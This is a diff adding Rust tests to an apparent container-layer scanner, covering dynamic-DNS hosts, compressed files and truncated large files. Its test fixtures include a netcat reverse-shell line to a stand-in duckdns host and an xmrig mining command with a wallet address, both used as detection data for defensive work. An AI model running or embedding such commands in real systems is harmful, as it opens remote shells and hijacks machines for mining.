@@ -1,7 +1,7 @@
 //! Layers with known content: what must be found, where, and reported how.
 
 use hubcensus_layer::{Limits, SkipReason, Whiteout};
-use hubcensus_types::{Category, Compression, IndicatorKind, Subject};
+use hubcensus_types::{Category, Compression, Confidence, IndicatorKind, Subject};
 
 use crate::support::*;
 
@@ -41,6 +41,28 @@ fn hosts_are_judged_once_at_the_first_path_that_named_them() {
         "{:?}",
         scan.indicators
     );
+}
+
+#[test]
+fn a_host_named_only_in_documentation_is_low_and_one_also_in_a_script_is_high_there() {
+    let thanks = gzip(b"Mail: Bohan <bohan@bohan.dyndns.org>\nRelay: relay.evil-updates.duckdns.org\n");
+    let layer = Tar::new()
+        .file("usr/share/doc/coreutils/THANKS.gz", &thanks)
+        .file("opt/run.sh", b"#!/bin/sh\nnc relay.evil-updates.duckdns.org 4444 -e /bin/sh\n")
+        .bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    let ddns = |host: &str| {
+        let f: Vec<_> =
+            scan.findings.iter().filter(|f| f.rule == "dynamic_dns_host" && f.preview == host).collect();
+        assert_eq!(f.len(), 1, "{host}: {:?}", hits(&scan));
+        (f[0].path.clone(), f[0].confidence)
+    };
+    assert_eq!(ddns("bohan.dyndns.org"), ("usr/share/doc/coreutils/THANKS.gz".into(), Confidence::Low));
+    assert_eq!(ddns("relay.evil-updates.duckdns.org"), ("opt/run.sh".into(), Confidence::High));
+    let paths: Vec<_> = scan.indicators.iter().map(|(i, p)| (i.value.as_str(), p.as_str())).collect();
+    assert!(paths.contains(&("relay.evil-updates.duckdns.org", "opt/run.sh")), "{paths:?}");
+    assert!(paths.contains(&("bohan.dyndns.org", "usr/share/doc/coreutils/THANKS.gz")), "{paths:?}");
 }
 
 #[test]
@@ -120,6 +142,38 @@ fn tar_gz_inside_a_layer_is_entered_and_gz_files_are_not() {
     assert_eq!(scan.error, None);
     assert!(has(&scan, "aws_access_key_id", "srv/backup.tgz!/conf/credentials"), "{:?}", hits(&scan));
     assert!(scan.skipped.is_empty(), "{:?}", scan.skipped);
+    assert_eq!(scan.entries, 3, "a gzipped file is one file, not an archive of entries");
+}
+
+#[test]
+fn a_compressed_file_is_scanned_as_what_it_decompresses_to() {
+    let script = b"#!/bin/sh\n./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge\n";
+    let layer = Tar::new()
+        .file("opt/start.sh.gz", &gzip(script))
+        .file("opt/keys.zst", &zstd(AWS_CREDENTIALS))
+        .bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(has(&scan, "stratum_url", "opt/start.sh.gz"), "{:?}", hits(&scan));
+    assert!(has(&scan, "aws_access_key_id", "opt/keys.zst"), "{:?}", hits(&scan));
+    assert!(scan.skipped.is_empty(), "{:?}", scan.skipped);
+}
+
+#[test]
+fn a_corrupt_compressed_file_is_recorded_and_its_bytes_still_scanned() {
+    let mut gz = gzip(AWS_CREDENTIALS);
+    let n = gz.len();
+    gz[n / 2] ^= 0xff;
+    gz.truncate(n - 4);
+    let layer = Tar::new().file("opt/bad.gz", &gz).file("root/.aws/credentials", AWS_CREDENTIALS).bytes();
+    let scan = scan(&layer);
+    assert_eq!(scan.error, None);
+    assert!(
+        matches!(&scan.skipped[..], [s] if s.path == "opt/bad.gz" && matches!(s.reason, SkipReason::Corrupt(_))),
+        "{:?}",
+        scan.skipped
+    );
+    assert!(has(&scan, "aws_access_key_id", "root/.aws/credentials"));
 }
 
 #[test]
@@ -143,11 +197,17 @@ fn big_files_are_scanned_in_head_and_tail() {
     big.resize(3 << 20, b' ');
     big.extend_from_slice(b"\nstratum+tcp://pool.minexmr.com:4444\n");
     let limits = Limits { max_file_scan_bytes: 1 << 20, ..Limits::default() };
-    let scan = scan_with(&gzip(&Tar::new().file("opt/big.txt", &big).bytes()), limits);
-    assert_eq!(scan.error, None);
-    assert_eq!(scan.truncated_files, 1);
-    assert!(has(&scan, "aws_access_key_id", "opt/big.txt"), "{:?}", hits(&scan));
-    assert!(has(&scan, "stratum_url", "opt/big.txt"), "{:?}", hits(&scan));
+    // A big file in the layer, and one whose length only its decompression tells.
+    for (path, layer) in [
+        ("opt/big.txt", gzip(&Tar::new().file("opt/big.txt", &big).bytes())),
+        ("var/log/big.log.gz", Tar::new().file("var/log/big.log.gz", &gzip(&big)).bytes()),
+    ] {
+        let scan = scan_with(&layer, limits.clone());
+        assert_eq!(scan.error, None);
+        assert_eq!(scan.truncated_files, 1);
+        assert!(has(&scan, "aws_access_key_id", path), "{:?}", hits(&scan));
+        assert!(has(&scan, "stratum_url", path), "{:?}", hits(&scan));
+    }
 }
 
 #[test]
